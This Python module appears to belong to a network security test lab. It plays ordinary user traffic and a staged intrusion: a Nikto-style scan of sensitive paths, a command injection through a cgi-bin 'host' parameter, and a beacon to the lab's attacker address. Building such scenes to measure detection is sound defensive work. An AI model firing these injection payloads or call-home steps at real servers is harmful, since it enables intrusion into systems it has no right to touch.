"""Traffic scenes of the lab: what people do all day, and what an intruder does once.

A scene is a generator of ``Progress`` items and plays while it is iterated. Everything is real traffic
between namespaces. ``attack`` first yields when its first malicious packet leaves (``at``), so that
whoever measures knows from where to count.
"""

from __future__ import annotations

import datetime as dt
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from sekisho_edge.lab import site
from sekisho_edge.lab.lab import Lab

ANSWER_SECONDS_MAX = 15.0
SCENE_STEP_SECONDS_MAX = 30.0
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SCANNED = ("/admin/", "/phpmyadmin/", "/cgi-bin/test", "/server-status", "/backup.zip", "/.env")
INJECTED_ID = "/cgi-bin/lookup?host=127.0.0.1%3Bid"
INJECTED_BEACON = f"/cgi-bin/lookup?host=127.0.0.1%3Bbeacon%20{site.ATTACKER_ADDRESS}%20{site.BEACON_PORT}"

# One small client for all visits: address, user agent, then paths; prints status and body of each answer.
_VISIT = """
import http.client, sys
host, port, agent, method, seconds, *paths = sys.argv[1:]
for path in paths:
    peer = http.client.HTTPConnection(host, int(port), timeout=float(seconds))
    peer.request(method, path, body=b"text=hello" if method == "POST" else None, headers={"User-Agent": agent})
    answer = peer.getresponse()
    sys.stdout.write(f"{answer.status} {path}\\n" + answer.read(65536).decode(errors="replace") + "\\n")
    peer.close()
"""
_MAIL = """
import smtplib, sys
with smtplib.SMTP("mail.lab.example", 25, local_hostname="pc2.lab.example", timeout=15) as server:
    server.sendmail("hanako@shop.lab.example", ["taro@lab.example"],
        b"From: hanako@shop.lab.example\\r\\nTo: taro@lab.example\\r\\nSubject: Invoice\\r\\n\\r\\nAs agreed.\\r\\n")
"""


class SceneError(Exception):
    """A scene did not go as its script says; the message tells where."""


@dataclass(frozen=True)
class Progress:
    """One step a person can follow. ``at`` is set where an instant matters: UTC."""

    code: str
    ja: str
    en: str
    at: dt.datetime | None = None


def ordinary(lab: Lab) -> Iterator[Progress]:
    """The PCs resolve names, read the news, look at a social network, post, and send one mail."""
    visit(lab, "pc1", "www.lab.example", ["/", "/weather", "/report.csv"])
    yield Progress("ordinary.news", "PC1がニュースと天気のページを見ました", "PC1 read the news and the weather")
    visit(lab, "pc2", "sns.lab.example", ["/", "/timeline"])
    visit(lab, "pc2", "sns.lab.example", ["/timeline"], method="POST")
    yield Progress("ordinary.sns", "PC2がSNSを見て、投稿しました", "PC2 looked at a social network and posted")
    _python(lab, "pc2", _MAIL)
    yield Progress("ordinary.mail", "PC2がメールを1通送りました", "PC2 sent a mail")
    visit(lab, "www", site.WAN_ADDRESS, ["/", "/items"])
    yield Progress("ordinary.customer", "外の客が店のページを見ました", "A customer outside looked at the shop")


def attack(lab: Lab) -> Iterator[Progress]:
    """Scan, exploit, call home: from the Internet, through the UTM, against the server behind it.

    The first item carries the instant at which the first malicious packet left. SceneError if the
    server does not really run what was injected.
    """
    began = dt.datetime.now(dt.UTC)
    yield Progress("attack.began", "攻撃者が動き始めました", "The attacker begins", at=began)
    visit(lab, "attacker", site.WAN_ADDRESS, list(SCANNED), agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)")
    yield Progress("attack.scan", "攻撃者が公開サーバーを探りました", "The attacker scanned the published server")
    answer = visit(lab, "attacker", site.WAN_ADDRESS, [INJECTED_ID], agent="curl/8.5.0")
    if "uid=65534" not in answer:
        raise SceneError(f"the injected command was not executed; the server said: {answer[:200]!r}")
    yield Progress(
        "attack.exploit",
        "サーバーの弱点が突かれ、送り込まれた命令が実行されました",
        "A hole in the server was used: an injected command was executed",
        at=dt.datetime.now(dt.UTC),
    )
    answer = visit(lab, "attacker", site.WAN_ADDRESS, [INJECTED_BEACON], agent="curl/8.5.0")
    if "beacon done" not in answer:
        raise SceneError(f"the server did not call home; it said: {answer[:200]!r}")
    yield Progress(
        "attack.beacon",
        "乗っ取られたサーバーが攻撃者へ連絡しました",
        "The taken server called home",
        at=dt.datetime.now(dt.UTC),
    )


SCENES: dict[str, Callable[[Lab], Iterator[Progress]]] = {"ordinary": ordinary, "attack": attack}


def visit(
    lab: Lab,
    host: str,
    server: str,
    paths: list[str],
    *,
    agent: str = BROWSER,
    method: str = "GET",
    port: int = 80,
    seconds_max: float = ANSWER_SECONDS_MAX,
) -> str:
    """Requests from a lab host; what it got, as text. SceneError when the server can't be reached."""
    return _python(lab, host, _VISIT, server, str(port), agent, method, str(seconds_max), *paths)


def _python(lab, host, program, *arguments):
    done = lab.run(host, [sys.executable, "-I", "-S", "-c", program, *arguments], timeout=SCENE_STEP_SECONDS_MAX)
    if done.returncode != 0:
        raise SceneError(f"{host} failed: {done.stderr.decode(errors='replace').strip()[-500:]}")
    return done.stdout.decode(errors="replace")
